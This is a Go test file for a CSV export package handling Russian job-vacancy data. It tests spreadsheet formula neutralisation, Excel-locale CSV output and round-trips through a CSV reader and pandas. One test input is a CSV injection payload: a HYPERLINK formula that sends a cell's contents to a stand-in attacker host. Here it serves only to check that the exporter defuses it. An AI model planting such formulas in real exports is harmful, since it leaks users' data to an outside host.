package export

import (
	"bytes"
	"context"
	"encoding/csv"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

func TestNeutralise(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{"", ""},
		{"Менеджер", "Менеджер"},
		{"=1+1", "'=1+1"},
		{`=HYPERLINK("http://evil.example/leak?d="&I2,"Apply")`, `'=HYPERLINK("http://evil.example/leak?d="&I2,"Apply")`},
		{"+7 495 000", "'+7 495 000"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{" =1", " =1"}, // not a formula in Excel or Calc
		{"C++", "C++"},
		{"'already", "'already"},
	} {
		if got := Neutralise(c.in); got != c.want {
			t.Errorf("Neutralise(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

func TestCSVWriterModes(t *testing.T) {
	rec := []string{"=1+1", "-5", "0.4512", "Казань"}
	kinds := []Kind{Text, Number, Number, Text}
	for _, c := range []struct {
		name string
		o    CSVOptions
		want string
	}{
		{"default", CSVOptions{}, "'=1+1,-5,0.4512,Казань\n"},
		{"raw", CSVOptions{RawText: true}, "=1+1,-5,0.4512,Казань\n"},
		{"excel", CSVOptions{Excel: true}, "\uFEFF'=1+1;-5;0,4512;Казань\r\n"},
		{"excel raw", CSVOptions{Excel: true, RawText: true}, "\uFEFF=1+1;-5;0,4512;Казань\r\n"},
	} {
		var b bytes.Buffer
		cw := NewCSVWriter(&b, c.o)
		if err := cw.Write(rec, kinds); err != nil {
			t.Fatal(err)
		}
		if err := cw.Flush(); err != nil {
			t.Fatal(err)
		}
		if b.String() != c.want {
			t.Errorf("%s: %q, want %q", c.name, b.String(), c.want)
		}
		if rec[0] != "=1+1" {
			t.Fatalf("%s: the caller's record was modified", c.name)
		}
	}
}

func TestColumnKinds(t *testing.T) {
	var nums []string
	for i, k := range columnKinds {
		if k == Number {
			nums = append(nums, Columns[i])
		}
	}
	if got := strings.Join(nums, ","); got != "salary_from,salary_to,salary_monthly_rur" {
		t.Errorf("number columns %s", got)
	}
}

// readExcel reads an Excel-mode CSV as Russian-locale Excel would: BOM,
// ';' between cells; number columns are turned back from decimal comma.
func readExcel(t *testing.T, b []byte, kinds []Kind) [][]string {
	t.Helper()
	if !bytes.HasPrefix(b, []byte("\uFEFF")) {
		t.Fatal("no UTF-8 BOM")
	}
	r := csv.NewReader(bytes.NewReader(b[3:]))
	r.Comma = ';'
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, rec := range recs[1:] {
		for i := range rec {
			if i < len(kinds) && kinds[i] == Number {
				if strings.Contains(rec[i], ".") {
					t.Fatalf("decimal point in an Excel number cell %q", rec[i])
				}
				rec[i] = strings.Replace(rec[i], ",", ".", 1)
			}
		}
	}
	return recs
}

// TestExcelRoundTrip: an Excel-mode CSV of realistic data read back with ';'
// and decimal comma gives every value of the plain CSV.
func TestExcelRoundTrip(t *testing.T) {
	ctx := context.Background()
	s := openFilled(t, 500)
	for _, table := range Tables {
		var plain, excel bytes.Buffer
		n1, err := Write(ctx, s, &plain, Options{Format: "csv", Table: table})
		if err != nil {
			t.Fatal(err)
		}
		n2, err := Write(ctx, s, &excel, Options{Format: "csv", Table: table, CSV: CSVOptions{Excel: true}})
		if err != nil || n1 != n2 || n1 == 0 {
			t.Fatalf("%s: rows %d/%d err %v", table, n1, n2, err)
		}
		want, err := csv.NewReader(&plain).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		kinds := columnKinds
		if table == "skills" {
			kinds = nil
		}
		got := readExcel(t, excel.Bytes(), kinds)
		if len(got) != len(want) {
			t.Fatalf("%s: %d records, want %d", table, len(got), len(want))
		}
		cyr, multi := 0, 0
		for i := range want {
			for j := range want[i] {
				if got[i][j] != want[i][j] {
					t.Fatalf("%s: record %d column %d: %q, want %q", table, i, j, got[i][j], want[i][j])
				}
				if strings.ContainsAny(want[i][j], "абвгдеёжзийклмнопрстуфхцчшщыэюя") {
					cyr++
				}
				if strings.Contains(want[i][j], ";") {
					multi++
				}
			}
		}
		if cyr == 0 || (table == "vacancies" && multi == 0) {
			t.Errorf("%s: data not realistic enough: %d Cyrillic cells, %d with ';'", table, cyr, multi)
		}
		pandasRoundTrip(t, table, excel.Bytes(), want)
	}
}

// pandasRoundTrip reads the Excel CSV with Debian's pandas (sep=';',
// decimal=',', encoding utf-8-sig) and compares every value.
func pandasRoundTrip(t *testing.T, table string, excel []byte, want [][]string) {
	py := "/usr/bin/python3"
	if exec.Command(py, "-c", "import pandas").Run() != nil {
		t.Log("Debian python3 with pandas not installed: pandas check skipped")
		return
	}
	dir := t.TempDir()
	in := filepath.Join(dir, "x.csv")
	if err := os.WriteFile(in, excel, 0o600); err != nil {
		t.Fatal(err)
	}
	// Numbers are parsed by pandas with decimal=','; they are printed back
	// as integers (every number column of the export is whole) so that they
	// compare with the plain CSV's text.
	script := `
import sys, pandas as pd
df = pd.read_csv(sys.argv[1], sep=';', decimal=',', encoding='utf-8-sig', keep_default_na=False, dtype=str)
nums = [c for c in ("salary_from", "salary_to", "salary_monthly_rur") if c in df.columns]
for c in nums:
    df[c] = pd.to_numeric(pd.read_csv(sys.argv[1], sep=';', decimal=',', encoding='utf-8-sig')[c]).map(lambda v: "" if pd.isna(v) else str(int(v)))
df.to_csv(sys.argv[2], index=False)
`
	out := filepath.Join(dir, "y.csv")
	if b, err := exec.Command(py, "-c", script, in, out).CombinedOutput(); err != nil {
		t.Fatalf("pandas: %v\n%s", err, b)
	}
	f, err := os.Open(out)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	got, err := csv.NewReader(f).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != len(want) {
		t.Fatalf("pandas %s: %d records, want %d", table, len(got), len(want))
	}
	for i := range want {
		for j := range want[i] {
			if got[i][j] != want[i][j] {
				t.Fatalf("pandas %s: record %d column %d: %q, want %q", table, i, j, got[i][j], want[i][j])
			}
		}
	}
}
